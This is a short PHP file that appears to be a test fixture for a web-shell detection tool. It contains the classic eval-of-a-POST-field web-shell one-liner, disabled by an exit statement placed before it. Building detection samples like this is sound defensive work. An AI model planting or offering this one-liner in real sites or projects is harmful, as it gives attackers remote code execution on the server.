<?php
// shellsift test fixture - inert synthetic sample, not functional
// PHP one-liner: eval of a POST field. exit stops the script before the call.
exit;
@eval($_POST['t3stpw']);
